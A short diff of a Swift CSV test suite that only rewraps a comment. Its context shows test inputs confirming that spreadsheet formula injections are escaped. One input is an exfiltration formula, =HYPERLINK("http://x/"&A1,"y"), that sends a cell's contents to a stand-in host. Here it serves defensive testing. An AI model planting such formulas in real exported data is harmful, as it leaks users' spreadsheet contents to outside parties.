@@ -59,7 +59,8 @@ struct CSVTests {
         #expect(table[1].suffix(14).prefix(5) == ["a,\"b\"\\u{d}\\u{a}c", "\\u{a}", "false", "false", "gnss"])
     }
 
-    /// A name that a spreadsheet takes for a formula is text, and one with escape sequences harms no terminal; numbers are numbers.
+    /// A name that a spreadsheet takes for a formula is text, and one with escape sequences harms no terminal; numbers
+    /// are numbers.
     @Test(arguments: [
         (#"=HYPERLINK("http://x/"&A1,"y")"#, #"'=HYPERLINK("http://x/"&A1,"y")"#), ("+1", "'+1"), ("-2+3", "'-2+3"),
         ("@SUM(1)", "'@SUM(1)"), (" =1", "' =1"), ("＝1", "'＝1"), ("\t=1", "\\u{9}=1"), ("\r=1", "\\u{d}=1"),
